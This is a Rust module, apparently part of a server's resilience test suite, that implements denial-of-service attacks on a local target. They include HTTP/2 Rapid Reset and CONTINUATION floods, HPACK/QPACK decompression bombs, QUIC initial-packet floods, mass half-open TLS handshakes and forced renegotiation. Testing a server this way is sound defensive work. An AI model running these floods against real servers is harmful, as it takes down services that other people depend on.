//! The attacks, and what they are aimed at.

use std::io::{Read, Write};
use std::net::{SocketAddr, UdpSocket};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use h3::error::Code;
use quinn::TransportConfig;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection};

use super::channel::{Channel, connect};
use crate::http2::frames::*;
use crate::http3::client::Http3;
use crate::http3::limits::first_packet_of;
use crate::tls::client::{TlsClient, Trust};
use crate::tls::hostile::{first_record, half_open, old_hello, record};

/// An attack.
pub struct Attack {
    pub title: &'static str,
    /// Clients that attack at the same time.
    pub clients: usize,
    /// Attacks until it is over, and returns the number of attempts. The last argument is the
    /// number of the client.
    pub run: fn(&Target, &AtomicBool, usize) -> usize,
}

/// The server that is attacked, and what its clients know.
pub struct Target {
    pub address: SocketAddr,
    /// The authority of its certificate, in PEM.
    authority: Vec<u8>,
    clients: [Arc<ClientConfig>; 3],
}

/// The protocols of [`Target::clients`].
const PROTOCOLS: [&str; 3] = ["http/1.1", "h2", "none"];
/// Connections whose handshake never ends: as many as descriptors allow.
const HALF_OPEN: u64 = 10_000;
/// Requests, or frames, that are sent at once.
const AT_ONCE: u32 = 200;

pub const ALL: &[Attack] = &[
    attack("Requests that are reset at once (Rapid Reset, HTTP/2)", resets),
    attack("Requests that the server is made to reset (HTTP/2)", provoked_resets),
    attack("Heads without end (CONTINUATION)", continuations),
    attack("A flood of SETTINGS", settings),
    attack("A flood of PING", pings),
    attack("A flood of empty content", empty_content),
    attack("Small heads that decode to large ones (HPACK)", hpack),
    attack("Streams that nobody reads (zero window)", closed_windows),
    attack("Small heads that decode to large ones (QPACK)", qpack),
    attack("Requests that are cancelled at once (HTTP/3)", cancelled),
    attack("First packets from everywhere (QUIC)", first_packets),
    Attack {
        title: "Handshakes that never end",
        clients: 1,
        run: half_open_handshakes,
    },
    attack("Handshakes without pause", handshakes),
    attack("Records of one byte", small_records),
    attack("Renegotiation", renegotiations),
    attack("TLS 1.0 and 1.1", old_versions),
    attack("A name in the handshake, another in the request", other_hosts),
];

const fn attack(title: &'static str, run: fn(&Target, &AtomicBool, usize) -> usize) -> Attack {
    Attack { title, clients: 2, run }
}

impl Target {
    pub fn new(address: SocketAddr, authority: Vec<u8>) -> Target {
        let clients = PROTOCOLS.map(|protocol| {
            let mut settings = TlsClient::trusting(&authority, Trust::Tls13).settings();
            if protocol != "none" {
                settings.alpn_protocols = vec![protocol.as_bytes().to_vec()];
            }
            Arc::new(settings)
        });
        Target { address, authority, clients }
    }

    /// A new client.
    pub fn client(&self) -> TlsClient {
        TlsClient::trusting(&self.authority, Trust::Tls13)
    }

    /// A client's side of a handshake. Such clients continue their sessions.
    pub fn session(&self, protocol: &str, name: &str) -> ClientConnection {
        let which = PROTOCOLS.iter().position(|known| *known == protocol).unwrap();
        let name = ServerName::try_from(name.to_owned()).unwrap();
        ClientConnection::new(Arc::clone(&self.clients[which]), name).unwrap()
    }
}

/// Opens connections of HTTP/2 one after the other, and sends on each what `make` makes for the
/// next streams, until the server ends it.
fn flood(
    target: &Target,
    over: &AtomicBool,
    window: u32,
    mut make: impl FnMut(u32) -> Vec<u8>,
) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let Some(mut channel) = Channel::http2(target, window, over) else {
            continue;
        };
        let mut stream = 1;
        while stream < 1 << 30 && channel.send(&make(stream), over) {
            stream += 2 * AT_ONCE;
            attempts += AT_ONCE as usize;
        }
        attempts += 1;
    }
    attempts
}

/// The frames of each of the next streams.
fn of_streams(first: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..AT_ONCE).flat_map(|number| frames(first + 2 * number)).collect()
}

fn request(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &get_secure("/large.txt"))
}

/// The head of a GET over https.
fn get_secure(target: &str) -> Vec<u8> {
    let line =
        [(":method", "GET"), (":scheme", "https"), (":path", target), (":authority", "a.example")];
    line.iter().flat_map(|(name, value)| field(name, value)).collect()
}

fn resets(target: &Target, over: &AtomicBool, _: usize) -> usize {
    flood(target, over, 65_535, |first| {
        of_streams(first, |stream| {
            [request(stream), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        })
    })
}

fn provoked_resets(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let overflow = (u32::MAX >> 1).to_be_bytes();
    flood(target, over, 0, |first| {
        of_streams(first, |stream| {
            [request(stream), frame(WINDOW_UPDATE, 0, stream, &overflow)].concat()
        })
    })
}

fn continuations(target: &Target, over: &AtomicBool, _: usize) -> usize {
    flood(target, over, 65_535, |first| {
        let begin = match first {
            1 => frame(HEADERS, END_STREAM, 1, &get_secure("/small.txt")),
            _ => Vec::new(),
        };
        let part = frame(CONTINUATION, 0, 1, &field("x", "y"));
        [begin, part.repeat(AT_ONCE as usize)].concat()
    })
}

fn settings(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let frames = frame(SETTINGS, 0, 0, &[]).repeat(AT_ONCE as usize);
    flood(target, over, 65_535, |_| frames.clone())
}

fn pings(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let frames = frame(PING, 0, 0, b"12345678").repeat(AT_ONCE as usize);
    flood(target, over, 65_535, |_| frames.clone())
}

fn empty_content(target: &Target, over: &AtomicBool, _: usize) -> usize {
    flood(target, over, 65_535, |first| {
        let begin = match first {
            1 => frame(HEADERS, END_HEADERS, 1, &get_secure("/small.txt")),
            _ => Vec::new(),
        };
        [begin, frame(DATA, 0, 1, b"").repeat(AT_ONCE as usize)].concat()
    })
}

/// A field of 4,000 bytes goes into the table once; each further byte repeats it.
fn hpack(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let Some(mut channel) = Channel::http2(target, 65_535, over) else {
            continue;
        };
        let mut stream = 1;
        loop {
            let mut head = get_secure("/small.txt");
            head.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
            head.extend_from_slice(&[b'y'; 4000]);
            head.extend_from_slice(&[0xbe; 8000]);
            attempts += 1;
            if !channel.send(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &head), over) {
                break;
            }
            stream += 2;
        }
    }
    attempts
}

fn closed_windows(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut held = Vec::new();
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let Some(channel) = streams_that_nobody_reads(target) else {
            continue;
        };
        attempts += AT_ONCE as usize;
        held.push(channel);
        // The server allows an address about as many connections.
        if held.len() > 200 {
            held.remove(0);
        }
    }
    attempts
}

/// A connection with many streams, none of which may send content; `None` if the server refuses it.
pub fn streams_that_nobody_reads(target: &Target) -> Option<Channel> {
    let over = AtomicBool::new(false);
    let mut channel = Channel::http2(target, 0, &over)?;
    channel.send(&of_streams(1, request), &over);
    Some(channel)
}

/// Runs a client of HTTP/3 again and again.
fn over_http3(
    target: &Target,
    over: &AtomicBool,
    mut steps: impl AsyncFnMut(&Http3) -> usize,
) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let transport = TransportConfig::default();
        let (address, authority) = (target.address, &target.authority);
        let client = Http3::trusting_as(address, "a.example", authority, transport);
        attempts += client.run(async { steps(&client).await });
        client.connection.close(0_u32.into(), b"");
    }
    attempts
}

fn qpack(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut section = vec![0, 0];
    section.extend(std::iter::repeat_n(0xc0 | 30, 15_000));
    let mut head = vec![1, 0x40 | (section.len() >> 8) as u8, section.len() as u8];
    head.extend_from_slice(&section);
    over_http3(target, over, async |client| {
        let mut attempts = 0;
        while !over.load(Ordering::Relaxed) {
            let Ok((mut send, mut receive)) = client.connection.open_bi().await else {
                break;
            };
            attempts += 1;
            if send.write_all(&head).await.is_err() {
                break;
            }
            let _ = send.finish();
            let _ = receive.stop(0_u32.into());
        }
        attempts
    })
}

fn cancelled(target: &Target, over: &AtomicBool, _: usize) -> usize {
    over_http3(target, over, async |client| {
        let mut attempts = 0;
        while !over.load(Ordering::Relaxed) {
            let Ok(mut stream) = client.begin_get("/large.txt").await else {
                break;
            };
            attempts += 1;
            stream.stop_sending(Code::H3_REQUEST_CANCELLED);
            tokio::task::yield_now().await;
        }
        attempts
    })
}

fn first_packets(target: &Target, over: &AtomicBool, number: usize) -> usize {
    let mut packets: Vec<Vec<u8>> = Vec::new();
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        if packets.len() < 50 {
            packets.push(first_packet_of(&target.authority));
        }
        let last = attempts % 200 + 20;
        let Ok(socket) = UdpSocket::bind(format!("127.0.{}.{last}:0", number + 1)) else {
            continue;
        };
        for packet in &packets {
            let _ = socket.send_to(packet, target.address);
            attempts += 1;
        }
    }
    attempts
}

fn half_open_handshakes(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let limit = howdah_sys::process::raise_descriptor_limit(HALF_OPEN + 500).unwrap_or(1024);
    let count = HALF_OPEN.min(limit.saturating_sub(500)) as usize;
    let mut held = Vec::new();
    while !over.load(Ordering::Relaxed) {
        match held.len() < count {
            true => held.extend(half_open(target.address, &target.client(), 100)),
            false => std::thread::sleep(Duration::from_millis(5)),
        }
    }
    held.len()
}

fn handshakes(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        // A new client has no session to continue.
        let mut session = target.client().session("a.example");
        let Some(mut socket) = connect(target) else {
            continue;
        };
        while session.is_handshaking() && session.complete_io(&mut socket).is_ok() {}
        attempts += 1;
    }
    attempts
}

fn small_records(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let hello = first_record(&target.client());
    let bytes: Vec<u8> = hello[5..].iter().flat_map(|byte| record(22, &[*byte])).collect();
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let Some(mut socket) = connect(target) else {
            continue;
        };
        if socket.write_all(&bytes).is_ok() {
            // The server's first message.
            let _ = socket.read(&mut [0; 4096]);
        }
        attempts += 1;
        let Some(mut channel) = Channel::open(target, "http/1.1", "a.example") else {
            continue;
        };
        for byte in b"GET /small.txt HTTP/1.1\r\nHost: a.example\r\n\r\n" {
            if !channel.send(&[*byte], over) {
                break;
            }
        }
        channel.hear(over);
    }
    attempts
}

/// Needs a client that asks for it: OpenSSL's.
fn renegotiations(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let client = Command::new("openssl")
            .args(["s_client", "-tls1_2", "-quiet", "-servername", "a.example", "-connect"])
            .arg(target.address.to_string())
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        let Ok(mut client) = client else {
            howdah_skip::skip!("no openssl");
            return 1;
        };
        let mut input = client.stdin.take().unwrap();
        // It takes these words as orders once the handshake is made.
        let _ = input.write_all(b"R\nR\nR\n");
        drop(input);
        let _ = client.wait();
        attempts += 1;
    }
    attempts
}

fn old_versions(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let Some(mut socket) = connect(target) else {
            continue;
        };
        if socket.write_all(&old_hello(1 + (attempts % 2) as u8, true)).is_ok() {
            let _ = socket.read(&mut [0; 100]);
        }
        attempts += 1;
    }
    attempts
}

fn other_hosts(target: &Target, over: &AtomicBool, _: usize) -> usize {
    let mut attempts = 0;
    while !over.load(Ordering::Relaxed) {
        let Some(mut channel) = Channel::open(target, "http/1.1", "a.example") else {
            continue;
        };
        // 421, and the end of the connection after a number of them.
        while channel.send(b"GET /small.txt HTTP/1.1\r\nHost: b.example\r\n\r\n", over)
            && channel.hear(over)
        {
            attempts += 1;
        }
    }
    attempts
}
